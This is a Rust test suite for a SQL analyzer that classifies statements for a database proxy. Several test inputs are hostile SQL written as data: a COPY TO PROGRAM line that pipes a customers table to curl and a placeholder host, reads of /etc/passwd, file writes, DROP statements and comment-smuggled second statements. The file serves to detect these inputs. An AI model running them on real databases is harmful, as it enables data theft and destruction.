//! Statement kinds, tables and flags for hostile and unusual spellings.

use super::*;

#[test]
fn drop_in_odd_spellings() {
    let i = pg(r#"dRoP TaBlE "public"."x""#);
    assert_eq!(i.kind, StatementKind::Drop);
    assert_eq!(tables(&i), vec![(Some("public"), "x", true)]);
    let i = pg("/* c */ drop/**/table x");
    assert_eq!(i.kind, StatementKind::Drop);
    assert_eq!(tables(&i), vec![(None, "x", true)]);
    let i = pg("DROP TABLE IF EXISTS a, b CASCADE");
    assert_eq!(tables(&i), vec![(None, "a", true), (None, "b", true)]);
    assert_eq!(i.kind.classes(), &["ddl", "drop"]);
    let i = my("DROP TABLE `db`.`Cust`");
    assert_eq!(tables(&i), vec![(Some("db"), "Cust", true)]);
}

#[test]
fn drop_schema_and_database_cover_every_table() {
    let i = pg("DROP SCHEMA sales CASCADE");
    assert_eq!(tables(&i), vec![(Some("sales"), "*", true)]);
    let i = my("DROP DATABASE shop");
    assert_eq!(i.kind, StatementKind::Drop);
    assert_eq!(tables(&i), vec![(Some("shop"), "*", true)]);
}

#[test]
fn truncate_only() {
    let i = pg("TRUNCATE ONLY t");
    assert_eq!(i.kind, StatementKind::Truncate);
    assert_eq!(tables(&i), vec![(None, "t", true)]);
    assert!(i.classes().contains(&"truncate") && i.classes().contains(&"write"));
    let i = pg("truncate table a, public.b restart identity");
    assert_eq!(tables(&i), vec![(None, "a", true), (Some("public"), "b", true)]);
}

#[test]
fn alter_in_odd_spellings() {
    let i = pg("AlTeR   TABLE  public.T ADD COLUMN x int");
    assert_eq!(i.kind, StatementKind::Ddl(DdlKind::Alter));
    assert_eq!(tables(&i), vec![(Some("public"), "t", true)]);
    assert!(i.classes().contains(&"ddl"));
    let i = pg("ALTER TABLE customers RENAME TO c2");
    assert_eq!(tables(&i), vec![(None, "customers", true)]);
}

#[test]
fn dollar_quoted_drop_text_is_a_literal() {
    let i = pg("SELECT $$DROP TABLE x$$ AS s");
    assert_eq!(i.kind, StatementKind::Select);
    assert!(i.tables.is_empty());
    let i = pg("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $body$ DROP TABLE x; SELECT 1 $body$");
    assert_eq!(i.kind, StatementKind::Ddl(DdlKind::Create));
    assert!(i.tables.is_empty());
    let i = pg("SELECT 'DROP TABLE x; DELETE FROM y'");
    assert!(i.tables.is_empty() && i.effects.is_empty());
}

#[test]
fn do_blocks_are_opaque() {
    let a = analyze("DO $$ BEGIN DROP TABLE x; END $$", Dialect::Postgres);
    assert!(a.parse_error.is_some());
    let k = &a.statements[0].kind;
    assert!(matches!(k, StatementKind::Unknown) || *k == StatementKind::Other("do".into()), "{k:?}");
    assert!(a.statements[0].outputs[0].is_opaque());
    assert!(a.statements[0].tables.is_empty());
    // MySQL DO evaluates expressions: analysed like a SELECT, returns nothing.
    let i = my("DO (SELECT @x := email FROM customers LIMIT 1)");
    assert_eq!(i.kind, StatementKind::Other("do".into()));
    assert!(i.outputs.is_empty() && i.assigns_user_variable);
    assert_eq!(tables(&i), vec![(None, "customers", false)]);
}

#[test]
fn execute_and_prepare() {
    let i = pg("EXECUTE stmt(1, 'a')");
    assert_eq!(i.kind, StatementKind::Execute);
    assert!(i.outputs[0].is_opaque());
    let i = pg("PREPARE p AS DELETE FROM customers WHERE id = $1");
    assert_eq!(i.kind, StatementKind::Prepare);
    assert!(i.classes().contains(&"delete"));
    assert_eq!(tables(&i), vec![(None, "customers", true)]);
    // MySQL PREPARE ... FROM runs SQL from a string or variable: not analysable.
    let a = analyze("PREPARE s FROM @q", Dialect::Mysql);
    assert!(a.parse_error.is_some());
    assert_eq!(a.statements[0].kind, StatementKind::Prepare);
    let a = analyze("EXECUTE format('DROP TABLE %I', 'x')", Dialect::Postgres);
    assert!(a.parse_error.is_some() || a.statements[0].outputs[0].is_opaque());
}

#[test]
fn schema_qualification() {
    assert_eq!(tables(&pg("SELECT 1 FROM public.customers")), vec![(Some("public"), "customers", false)]);
    assert_eq!(tables(&pg("SELECT 1 FROM customers")), vec![(None, "customers", false)]);
    assert_eq!(tables(&pg("SELECT 1 FROM mydb.public.customers")), vec![(Some("public"), "customers", false)]);
    assert_eq!(
        tables(&pg(r#"SELECT 1 FROM "Customers", CUSTOMERS"#)),
        vec![(None, "Customers", false), (None, "customers", false)]
    );
}

#[test]
fn mysql_backticks_and_case() {
    let i = my("SELECT `Email` FROM `shop`.`Customers` AS c");
    assert_eq!(tables(&i), vec![(Some("shop"), "Customers", false)]);
    assert_eq!(out(&i, 0), vec![scol("shop", "Customers", "Email")]);
}

#[test]
fn set_role_and_session_authorization() {
    for q in
        ["SET ROLE admin", "SET LOCAL ROLE admin", "SET SESSION AUTHORIZATION bob", "SET role = 'admin'", "RESET ROLE"]
    {
        let i = pg(q);
        assert_eq!(i.kind, StatementKind::Set { role_change: true }, "{q}");
        assert!(i.classes().contains(&"set_role"), "{q}");
    }
    // Pools' reset queries (asyncpg's ends with RESET ALL): they return to the login role's
    // defaults, which is no change of role (RESET ALL keeps a SET ROLE; PG checked).
    for q in ["RESET ALL", "DISCARD ALL"] {
        assert_eq!(pg(q).kind, StatementKind::Set { role_change: false }, "{q}");
    }
    let i = pg("SET search_path TO evil, public");
    assert_eq!(i.kind, StatementKind::Set { role_change: false });
    assert_eq!(i.set_variables, vec!["search_path".to_string()]);
    // Not parseable by sqlparser, still classified as a role change.
    let a = analyze("SET role TO admin", Dialect::Postgres);
    assert_eq!(a.statements[0].kind, StatementKind::Set { role_change: true });
    assert_eq!(my("SET ROLE r").kind, StatementKind::Set { role_change: true });
}

#[test]
fn mysql_set_user_variable_from_query() {
    let i = my("SET @v := (SELECT email FROM customers)");
    assert_eq!(i.kind, StatementKind::Set { role_change: false });
    assert_eq!(tables(&i), vec![(None, "customers", false)]);
    assert!(i.assigns_user_variable);
    assert_eq!(i.written_sources, vec![col("customers", "email")]);
    let i = my("SELECT @v := email FROM customers");
    assert!(i.assigns_user_variable);
    let i = my("SELECT email INTO @e FROM customers LIMIT 1");
    assert!(i.assigns_user_variable && i.outputs.is_empty());
    assert_eq!(i.written_sources, vec![col("customers", "email")]);
    let i = my("SET @@session.sql_mode = ''");
    assert!(!i.assigns_user_variable);
}

#[test]
fn mysql_into_outfile_writes_a_server_file() {
    for q in [
        "SELECT email INTO OUTFILE '/tmp/x' FROM customers",
        "SELECT email FROM customers INTO OUTFILE '/tmp/x' FIELDS TERMINATED BY ',' LINES TERMINATED BY '\\n'",
        "SELECT email FROM customers INTO DUMPFILE '/tmp/x'",
    ] {
        let i = my(q);
        assert!(i.server_io, "{q}");
        assert!(i.outputs.is_empty(), "{q}");
        assert_eq!(i.written_sources, vec![col("customers", "email")], "{q}");
    }
    // Same text without the clause is a different cache entry and reads normally.
    let i = my("SELECT email FROM customers");
    assert!(!i.server_io && i.outputs.len() == 1);
}

#[test]
fn file_and_program_functions() {
    let i = my("SELECT LOAD_FILE('/etc/passwd')");
    assert_eq!(i.functions, vec!["load_file".to_string()]);
    assert!(i.server_io && i.outputs[0].is_opaque());
    let i = pg("SELECT pg_catalog.pg_read_file('/etc/passwd')");
    assert!(i.server_io);
    let i = pg("SELECT * FROM dblink('host=x', 'select email from customers') AS t(e text)");
    assert!(i.server_io && i.outputs[0].is_opaque());
    assert!(i.tables.is_empty(), "{i:?}");
}

#[test]
fn copy_variants() {
    let i = pg("COPY (SELECT c.email FROM customers c) TO STDOUT WITH (FORMAT csv)");
    assert_eq!(i.kind, StatementKind::Copy { to_program: false, direction: CopyDirection::To });
    assert_eq!(out(&i, 0), vec![col("customers", "email")]);
    let i = pg("COPY customers TO PROGRAM 'curl -d @- http://x'");
    assert_eq!(i.kind, StatementKind::Copy { to_program: true, direction: CopyDirection::To });
    assert!(i.server_io && i.classes().contains(&"program"));
    assert_eq!(i.written_sources, vec![all("customers")]);
    let i = pg("COPY customers FROM STDIN");
    assert_eq!(tables(&i), vec![(None, "customers", true)]);
    assert!(i.classes().contains(&"insert") && !i.server_io);
    let i = pg("COPY public.customers (id, email) TO STDOUT");
    assert_eq!(i.outputs.len(), 2);
    assert_eq!(out(&i, 1), vec![scol("public", "customers", "email")]);
    let i = pg("COPY customers TO STDOUT");
    assert!(i.outputs[0].wildcard);
    assert_eq!(out(&i, 0), vec![all("customers")]);
}

#[test]
fn data_modifying_cte_is_an_effect() {
    let i = pg("WITH d AS (DELETE FROM customers RETURNING *) SELECT * FROM d");
    assert_eq!(i.kind, StatementKind::Select);
    assert!(i.classes().contains(&"delete"));
    assert_eq!(tables(&i), vec![(None, "customers", true)]);
    assert_eq!(out(&i, 0), vec![all("customers")]);
    let i = pg("WITH u AS (UPDATE t SET a = 1 RETURNING a) SELECT 1");
    assert!(i.classes().contains(&"update"));
}

#[test]
fn explain_analyze_executes_its_statement() {
    let i = pg("EXPLAIN ANALYZE DELETE FROM customers");
    assert_eq!(i.kind, StatementKind::Explain);
    assert!(i.classes().contains(&"delete"));
    assert_eq!(tables(&i), vec![(None, "customers", true)]);
    assert!(i.outputs.is_empty());
}

#[test]
fn insert_select_reports_what_it_copies() {
    let i = pg("INSERT INTO public_dump (x) SELECT email FROM customers");
    assert_eq!(i.kind, StatementKind::Insert);
    assert_eq!(tables(&i), vec![(None, "customers", false), (None, "public_dump", true)]);
    assert_eq!(i.written_sources, vec![col("customers", "email")]);
    let i = pg("INSERT INTO t (a, b) VALUES (1, 'x'), (2, 'y') RETURNING id, b");
    assert_eq!(i.outputs.len(), 2);
    assert_eq!(out(&i, 1), vec![col("t", "b")]);
    assert!(i.written_sources.is_empty());
}

#[test]
fn update_and_delete_where_flags() {
    let i = pg("UPDATE t SET x = (SELECT email FROM customers LIMIT 1) WHERE id = 1");
    assert!(i.has_where);
    // `email` could also be a correlated reference to t.email.
    assert_eq!(sorted(i.written_sources.clone()), vec![col("customers", "email"), col("t", "email")]);
    assert_eq!(tables(&i), vec![(None, "t", true), (None, "customers", false)]);
    assert!(!pg("UPDATE t SET x = 1").has_where);
    let i = pg("DELETE FROM t");
    assert!(!i.has_where && i.kind == StatementKind::Delete);
    let i = pg("DELETE FROM t USING u WHERE t.id = u.id RETURNING *");
    assert!(i.has_where);
    assert_eq!(tables(&i), vec![(None, "t", true), (None, "u", false)]);
    assert!(i.outputs.iter().all(|o| o.wildcard));
}

#[test]
fn mysql_multi_table_update_and_delete() {
    let i = my("UPDATE a JOIN customers c ON a.id = c.id SET a.x = c.email");
    assert_eq!(tables(&i), vec![(None, "a", true), (None, "customers", false)]);
    assert_eq!(i.written_sources, vec![col("customers", "email")]);
    let i = my("DELETE x FROM orders x JOIN customers c ON x.cid = c.id");
    assert_eq!(tables(&i), vec![(None, "orders", true), (None, "customers", false)]);
}

#[test]
fn merge_lists_its_actions() {
    let i = pg("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT (id, v) VALUES (s.id, s.v)");
    assert_eq!(i.kind, StatementKind::Merge);
    assert!(i.classes().contains(&"delete") && i.classes().contains(&"insert"));
    assert_eq!(tables(&i), vec![(None, "t", true), (None, "s", false)]);
    assert_eq!(i.written_sources, vec![col("s", "id"), col("s", "v")]);
}

#[test]
fn upserts_are_updates_too() {
    let i = pg("INSERT INTO t (id, v) VALUES (1, 2) ON CONFLICT (id) DO UPDATE SET v = excluded.v");
    assert!(i.classes().contains(&"update"));
    let i = my("REPLACE INTO t VALUES (1)");
    assert!(i.classes().contains(&"delete") && i.classes().contains(&"insert"));
    let i = my("INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE v = VALUES(v)");
    assert!(i.classes().contains(&"update"));
}

#[test]
fn select_into_creates_a_table() {
    let i = pg("SELECT email INTO TEMP copy_of FROM customers");
    assert!(i.classes().contains(&"create") && i.classes().contains(&"insert"));
    assert!(tables(&i).contains(&(None, "copy_of", true)));
    assert!(i.outputs.is_empty());
    assert_eq!(i.written_sources, vec![col("customers", "email")]);
}

#[test]
fn grants_and_ddl_targets() {
    let i = pg("GRANT SELECT ON ALL TABLES IN SCHEMA sales TO analyst");
    assert_eq!(i.kind, StatementKind::Ddl(DdlKind::Grant));
    assert_eq!(tables(&i), vec![(Some("sales"), "*", true)]);
    let i = pg("CREATE VIEW v AS SELECT email FROM customers");
    assert_eq!(tables(&i), vec![(None, "v", true), (None, "customers", false)]);
    assert_eq!(i.written_sources, vec![col("customers", "email")]);
    let i = pg("CREATE INDEX i ON customers (email)");
    assert_eq!(tables(&i), vec![(None, "customers", true)]);
    let i = pg("COMMENT ON COLUMN public.customers.email IS 'pii'");
    assert_eq!(tables(&i), vec![(Some("public"), "customers", true)]);
    let i = my("RENAME TABLE customers TO c2");
    assert_eq!(i.kind.classes(), &["ddl", "alter", "rename"]);
}

#[test]
fn procedures_cursors_and_multi_statements() {
    let i = pg("CALL refresh_all(1)");
    assert_eq!(i.kind, StatementKind::Call);
    assert!(i.outputs[0].is_opaque() && i.functions == vec!["refresh_all".to_string()]);
    let i = pg("DECLARE c CURSOR FOR SELECT email FROM customers");
    assert_eq!(tables(&i), vec![(None, "customers", false)]);
    assert!(pg("FETCH 10 FROM c").outputs[0].is_opaque());
    // MOVE (FETCH's grammar, no rows): parsed, named `move`, outputs opaque like FETCH's.
    for q in [
        "MOVE 2 IN c",
        "move next from c",
        "  MOVE c",
        "MOVE ALL IN c",
        "MOVE FORWARD 5 FROM c",
        "Move\tABSOLUTE 3 IN c",
    ] {
        let a = analyze(q, Dialect::Postgres);
        assert_eq!(a.parse_error, None, "{q}");
        assert_eq!(a.statements[0].kind, StatementKind::Other("move".into()), "{q}");
        assert!(a.statements[0].outputs[0].is_opaque(), "{q}");
    }
    let a = analyze("BEGIN; MOVE 1 IN c; FETCH 1 FROM c", Dialect::Postgres);
    let kinds: Vec<_> = a.statements.iter().map(|s| s.kind.clone()).collect();
    assert_eq!(kinds[1..], [StatementKind::Other("move".into()), StatementKind::Other("fetch".into())]);
    for q in ["MOVEMENT 1 IN c", "MOVE 2 IN", "MOVE"] {
        assert!(analyze(q, Dialect::Postgres).parse_error.is_some(), "{q}");
    }
    assert!(analyze("MOVE 2 IN c", Dialect::Mysql).parse_error.is_some());
    let a = analyze("SELECT 1; DROP TABLE x", Dialect::Postgres);
    assert!(a.is_multi_statement());
    assert_eq!(a.statements[1].kind, StatementKind::Drop);
}

#[test]
fn parse_errors_deny_by_default_and_keep_a_kind() {
    let a = analyze("SELEC 1", Dialect::Postgres);
    assert!(a.parse_error.is_some());
    assert_eq!(a.statements[0].kind, StatementKind::Unknown);
    let a = analyze("DROP TABLE x; DROP TABLE", Dialect::Postgres);
    assert!(a.parse_error.is_some());
    assert_eq!(a.statements.len(), 2);
    assert!(a.statements.iter().all(|s| s.kind == StatementKind::Drop));
    let a = analyze("LOAD DATA INFILE '/etc/passwd' INTO TABLE t", Dialect::Mysql);
    assert_eq!(a.statements[0].kind, StatementKind::Copy { to_program: false, direction: CopyDirection::From });
    assert!(a.statements[0].server_io);
    assert!(analyze("", Dialect::Postgres).statements.is_empty());
}

#[test]
fn hostile_nesting_is_bounded_on_a_small_stack() {
    // Proxy tasks run on 2 MiB worker stacks; this must not overflow even in a debug build.
    let h = std::thread::Builder::new().stack_size(2 << 20).spawn(|| {
        let inputs = [
            format!("SELECT {}1{}", "(".repeat(5000), ")".repeat(5000)),
            format!("SELECT 1{}", "+a".repeat(50_000)),
            format!("SELECT a{}", "::int".repeat(9_000)),
            format!("SELECT a{}", " IS NULL".repeat(3_000)),
            format!("SELECT 1 FROM t WHERE a{}", " AND a".repeat(5_000)),
            format!("SELECT {}1{}", "(SELECT ".repeat(200), ")".repeat(200)),
        ];
        inputs.iter().all(|q| analyze(q, Dialect::Postgres).parse_error.is_some())
    });
    assert!(matches!(h.map(|h| h.join()), Ok(Ok(true))));
    // Long but realistic chains still work.
    let ok = format!("SELECT 1 FROM t WHERE a = 1{}", " OR a = 1".repeat(150));
    assert!(analyze(&ok, Dialect::Postgres).parse_error.is_none());
}

#[test]
fn show_use_and_transactions() {
    assert_eq!(pg("BEGIN").kind, StatementKind::Transaction);
    assert_eq!(my("START TRANSACTION").kind, StatementKind::Transaction);
    assert_eq!(pg("COMMIT").kind.classes(), &["transaction"]);
    assert_eq!(my("SHOW TABLES").kind, StatementKind::Show);
    let i = my("DESCRIBE customers");
    assert_eq!(tables(&i), vec![(None, "customers", false)]);
    let i = my("USE shop");
    assert_eq!(i.kind, StatementKind::Use);
    assert_eq!(i.set_variables, vec!["database".to_string()]);
    assert_eq!(pg("LISTEN ch").kind, StatementKind::Other("listen".into()));
}

#[test]
fn comment_and_quote_confusion() {
    // A MySQL executable comment can carry a whole second statement.
    let a = analyze("SELECT 1 /*!50000 ; DROP TABLE x */", Dialect::Mysql);
    assert_eq!(a.statements.len(), 2);
    assert_eq!(a.statements[1].kind, StatementKind::Drop);
    // Comments between keywords.
    let i = pg("SELECT/**/email/**/FROM/**/customers");
    assert_eq!(out(&i, 0), vec![col("customers", "email")]);
    // PG nests block comments, MySQL does not.
    let i = pg("SELECT 1 /* /* */ , email FROM customers */");
    assert_eq!(i.outputs.len(), 1);
    let a = analyze("SELECT 1 /* /* */ , email FROM customers */", Dialect::Mysql);
    assert!(
        a.parse_error.is_some()
            || a.statements[0].outputs.iter().any(|o| o.sources.contains(&col("customers", "email")))
    );
    // A backslash ends a Postgres string but escapes the quote in MySQL.
    let i = pg(r"SELECT 'a\' , email FROM customers -- '");
    assert_eq!(out(&i, 1), vec![col("customers", "email")]);
    let i = my(r"SELECT 'a\' , email FROM customers -- '");
    assert_eq!(i.outputs.len(), 1);
    assert!(i.tables.is_empty());
    // `#` and `--` inside strings are not comments.
    let i = my("SELECT '#', \"-- \", email FROM customers");
    assert_eq!(out(&i, 2), vec![col("customers", "email")]);
    // Postgres `#` is an operator (XOR), not a comment.
    let i = pg("SELECT 1 # 2, email FROM customers");
    assert_eq!(out(&i, 1), vec![col("customers", "email")]);
}
